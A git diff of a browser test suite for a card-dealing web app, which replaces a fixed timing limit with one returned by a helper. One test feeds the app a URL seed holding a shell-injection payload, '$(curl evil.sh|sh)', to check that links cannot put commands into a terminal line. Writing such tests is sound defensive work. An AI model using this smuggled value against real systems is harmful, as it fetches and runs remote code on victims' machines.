@@ -3,7 +3,7 @@
 import assert from "node:assert/strict";
 import { after, before, describe, test } from "node:test";
 import { BROWSERS, launch, open } from "./browsers.mjs";
-import { accessible, held, MAX_STILL, program, tabTo, text, until } from "./tabs.mjs";
+import { accessible, held, program, tabTo, text, until } from "./tabs.mjs";
 
 /** North's hand of `evenhand deal bridge --seed 1`, and the deal's number. */
 const NORTH = "king of spades, jack of spades, 6 of spades";
@@ -143,8 +143,8 @@ for (const browser of BROWSERS) {
 
     test("a link does not hold up the page, and cannot put a command into the line for a terminal", async () => {
       const page = await open(driver, "#deal?lang=en&seed=1");
-      const longest = await held(page, "#deal?lang=en&game=own&deck=10000x1&pattern=A:*&seed=1", "#deal?lang=en&seed=1", () => document.querySelector("[role=alert]") !== null);
-      assert.ok(longest < MAX_STILL, `${longest} ms`);
+      const { longest, allowed } = await held(page, "#deal?lang=en&game=own&deck=10000x1&pattern=A:*&seed=1", "#deal?lang=en&seed=1", () => document.querySelector("[role=alert]") !== null);
+      assert.ok(longest <= allowed, `${longest} ms`);
       await page.evaluate(() => {
         location.hash = `#deal?lang=en&game=bridge&seed=${encodeURIComponent("$(curl evil.sh|sh)'\u0003")}`;
       });
